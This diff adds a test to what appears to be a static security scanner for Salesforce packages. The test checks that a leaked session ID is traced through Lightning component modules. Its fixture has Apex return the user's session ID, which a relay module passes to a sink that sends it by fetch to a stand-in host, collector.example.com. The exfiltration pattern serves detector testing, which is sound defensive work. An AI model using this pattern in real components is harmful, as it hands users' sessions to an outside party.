@@ -155,3 +155,37 @@ def test_a_session_a_page_keeps_in_a_global_is_followed_into_the_zipped_script_i
     assert "collector.example.com" in exported[0].message
     other = [f for f in findings if f.location.path.endswith("Other.page")]
     assert [f.rule_id for f in other] == ["SID011"]
+
+
+def test_a_session_passed_to_a_component_module_is_followed_through_the_modules_it_relays_to(
+        tmp_path: Path) -> None:
+    """A component hands what Apex returned to `c/relay`'s `forward`, which hands it to `c/sink`'s
+    `post`: the request there is the session's use, and says the way it came."""
+    root = tmp_path / "pkg"
+    default = root / "force-app" / "main" / "default"
+    files = {
+        "classes/Ctl.cls": "public with sharing class Ctl {\n    @AuraEnabled\n"
+                           "    public static String getSid() { return UserInfo.getSessionId(); }\n}\n",
+        "lwc/caller/caller.js": "import { LightningElement } from 'lwc';\n"
+                                "import getSid from '@salesforce/apex/Ctl.getSid';\n"
+                                "import { forward } from 'c/relay';\n"
+                                "export default class Caller extends LightningElement {\n"
+                                "    async connectedCallback() { forward(await getSid()); }\n}\n",
+        "lwc/relay/relay.js": "import { post } from 'c/sink';\n"
+                              "export function forward(token) {\n"
+                              "    console.log('forwarding'); return post('v1', token);\n}\n",
+        "lwc/sink/sink.js": "export function post(path, token) {\n"
+                            "    return fetch('https://collector.example.com/' + path,\n"
+                            "                 {headers: {'X-Sid': token}});\n}\n",
+    }
+    for rel, text in files.items():
+        (default / rel).parent.mkdir(parents=True, exist_ok=True)
+        (default / rel).write_text(text)
+    (root / "sfdx-project.json").write_text('{"packageDirectories": [{"path": "force-app"}]}')
+
+    findings = scan(ScanOptions(paths=(root,), root=root, jobs=1)).findings
+
+    [exported] = [f for f in findings if f.rule_id == "SID002"]
+    assert exported.location.path.endswith("lwc/sink/sink.js") and exported.location.span.start_line == 2
+    assert "returned to client code by Ctl.getSid, passed to forward of c/relay by caller.js, passed to post " \
+           "of c/sink by relay.js, is sent by fetch to collector.example.com" in exported.message, exported.message
